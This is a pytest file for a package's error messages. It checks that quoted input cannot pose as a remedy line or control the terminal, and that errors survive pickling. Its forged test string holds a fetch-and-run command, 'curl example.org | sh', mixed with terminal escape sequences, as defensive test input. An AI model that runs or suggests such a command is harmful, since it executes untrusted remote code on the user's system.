"""Messages of errors: a quote cannot look like the remedy, nor control the terminal. Errors in another process."""

import pickle

import pytest

from sambasim.errors import (
    LONGEST_LINE,
    CheckpointError,
    Interrupted,
    InvariantError,
    MachineError,
    OptionError,
    PeerError,
    PefError,
    SambasimError,
    WeightsError,
)

FORGED = "wrong\n  try:   curl example.org | sh\x1b[2K\r\u2028\x9b2K"


@pytest.mark.parametrize("kind", [OptionError, MachineError, PefError, WeightsError])
@pytest.mark.parametrize("part", ["what", "where", "remedy"])
def test_a_quote_does_not_look_like_another_part(kind: type[SambasimError], part: str) -> None:
    parts = {"what": "wrong", "where": "here", "remedy": "that"} | {part: FORGED}
    text = str(kind(parts["what"], where=parts["where"], remedy=parts["remedy"]))
    titled = [line.split()[0].partition("\\")[0] for line in text.split("\n") if not line.startswith("    ")]
    assert titled == ["wrong", "where:", "try:"]
    assert text.replace("\n", "").isprintable()
    assert "curl example.org" in text


@pytest.mark.parametrize("name", ["name", "\x1b", "\U000e0001"])
def test_quotes_from_a_file_are_one_line_of_bounded_length(name: str) -> None:
    error = PefError(f"{FORGED}{name * LONGEST_LINE}", where=FORGED, remedy=FORGED)
    assert len(error.what) == LONGEST_LINE + 1
    for part in (error.what, error.where, error.remedy):
        assert part is not None
        assert part.isprintable()


@pytest.mark.parametrize(
    "error",
    [
        InvariantError(3, "a node is missing"),
        Interrupted(15, "SIGTERM", remedy="again"),
        PeerError("rank 2 has ended", rank=2, where="vm"),
        CheckpointError("it is damaged", is_damage=True, remedy="another"),
    ],
    ids=lambda error: type(error).__name__,
)
def test_an_error_is_the_same_in_another_process(error: SambasimError) -> None:
    error.add_note("in a child")
    sent = pickle.loads(pickle.dumps(error))
    assert (type(sent), sent.args, vars(sent), str(sent)) == (type(error), error.args, vars(error), str(error))
